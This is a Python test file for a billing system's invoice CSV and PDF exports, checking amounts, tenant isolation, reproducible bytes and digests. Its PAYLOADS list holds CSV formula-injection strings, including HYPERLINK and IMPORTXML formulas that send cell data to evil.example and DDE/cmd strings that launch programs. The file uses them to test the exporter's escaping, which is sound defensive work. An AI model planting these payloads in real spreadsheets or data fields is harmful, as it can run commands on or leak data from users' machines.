"""What is handed out of an issued invoice: every amount, no formula, the same bytes for ever."""

import csv
import hashlib
import io
import json
import os
import subprocess
import sys
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from pypdf import PdfReader

from billing.adapters.documents import FORMULA_STARTS, render_csv, render_pdf
from billing.domain.documents.document import Party, canonical_bytes, clean_text, digest_of
from billing.models import Invoice
from billing.services.finalizing import finalize_invoice
from billing.services.invoicing import draft_invoice
from tests.support.billing.documents import make_document
from tests.support.billing.ledger import DORA, ERIC
from tests.support.billing.office import Office, make_office
from tests.support.billing.site import SITE_TERMS
from tests.support.builders import AT
from tests.support.shared_rows import shared_rows

ROOT = Path(__file__).resolve().parents[3]
PAYLOADS = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1-1|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "\u202e=1+1",
    '";=1+1',
    '","=1+1',
    '"\r\n=1+1,"',
    "%0A-3+3",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
    'DDE ("cmd";"/C calc";"x")',
    "\u2212 1",
)
PROGRAM = """
import hashlib, json, sys
from billing.adapters.documents import render_csv
from billing.adapters.documents import render_pdf
from billing.domain.documents.document import digest_of
document = json.load(sys.stdin)
print(*(hashlib.sha256(r(document)).hexdigest() for r in (render_pdf, render_csv)))
print(digest_of(document))
"""


def rows_of(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode(), newline=""), strict=True))


def text_of(content: bytes) -> str:
    """Return the words of a PDF; where its lines break does not matter."""
    pages = [page.extract_text() for page in PdfReader(io.BytesIO(content)).pages]
    return " ".join(" ".join(pages).split())


@shared_rows
def office() -> Office:
    """Acme and Umbrella with an accrued month."""
    return make_office()


@shared_rows
def final(office: Office) -> Invoice:
    """Acme's October, issued."""
    draft = draft_invoice(period_id=office.period.pk, actor=DORA, at=AT, terms=SITE_TERMS)
    return finalize_invoice(invoice_id=draft.pk, actor=ERIC, at=AT, terms=SITE_TERMS)


def cells_of(payload: str) -> list[str]:
    """Return every cell of text that a tenant may choose, in a document full of a payload."""
    document = make_document(project_name=payload, customer=Party(name=payload))
    document["lines"][0]["cost_center"] = clean_text(payload)
    (row,) = rows_of(render_csv(document))
    return [row[name] for name in ("customer", "project_name", "cost_center")]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_name_of_a_tenant_is_run_by_a_spreadsheet_and_none_is_lost(payload: str) -> None:
    for cell in cells_of(payload):
        assert cell.lstrip(" \u00a0")[:1] not in FORMULA_STARTS
        assert cell.removeprefix("'") == clean_text(payload)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_makes_no_further_record_and_no_further_field(payload: str) -> None:
    document = make_document(project_name=payload, customer=Party(name=payload))

    records = list(csv.reader(io.StringIO(render_csv(document).decode(), newline=""), strict=True))

    assert len(records) == 2
    assert len(records[0]) == len(records[1])


def test_pdf_and_csv_tell_every_amount_and_the_total_of_the_ledger(final: Invoice) -> None:
    final.refresh_from_db()
    lines = list(final.lines.order_by("position"))

    pdf, rows = text_of(render_pdf(final.document)), rows_of(render_csv(final.document))

    assert [Decimal(row["amount"]) for row in rows] == [line.amount for line in lines]
    assert [int(row["unit_seconds"]) for row in rows] == [line.unit_seconds for line in lines]
    assert sum(Decimal(row["amount"]) for row in rows) == final.total == Decimal("3.00")
    assert {row["invoice"] for row in rows} == {"GL-2026-000001"}
    for line in lines:
        assert f"{line.amount:.2f}" in pdf
        assert f"{line.size.capitalize()} {line.price_group}" in pdf
    assert f"{final.total:.2f}" in pdf
    assert final.reference in pdf
    assert final.content_sha256[:8] in pdf


def test_nothing_of_another_organization_is_in_the_documents(final: Invoice) -> None:
    reported = [
        text_of(render_pdf(final.document)),
        render_csv(final.document).decode(),
        json.dumps(final.document),
    ]

    for text in reported:
        assert "Acme" in text
        for canary in ("umbrella", "virus", "mallory"):
            assert canary not in text.lower()


def test_after_a_restart_the_stored_document_gives_the_same_bytes(final: Invoice) -> None:
    """The interpreter is another one, with other hashes, another zone and another locale."""
    final.refresh_from_db()
    environment = {
        **os.environ,
        "PYTHONPATH": str(ROOT),
        "PYTHONHASHSEED": "4711",
        "TZ": "Pacific/Apia",
        "LC_ALL": "C",
    }

    other = subprocess.run(
        [sys.executable, "-c", PROGRAM],
        input=json.dumps(dict(reversed(final.document.items()))),
        env=environment,
        cwd=ROOT,
        check=True,
        capture_output=True,
        text=True,
    )

    assert other.stdout.split() == [*hashes_of(final.document), final.content_sha256]


def hashes_of(document: dict[str, Any]) -> list[str]:
    return [hashlib.sha256(render(document)).hexdigest() for render in (render_pdf, render_csv)]


def test_the_digest_is_of_what_is_stored_and_of_every_part_of_it(final: Invoice) -> None:
    final.refresh_from_db()
    stored = final.document
    assert digest_of(stored) == final.content_sha256
    assert json.loads(canonical_bytes(stored)) == stored

    for key in stored:
        changed = {name: value for name, value in stored.items() if name != key}
        assert digest_of(changed) != final.content_sha256, key
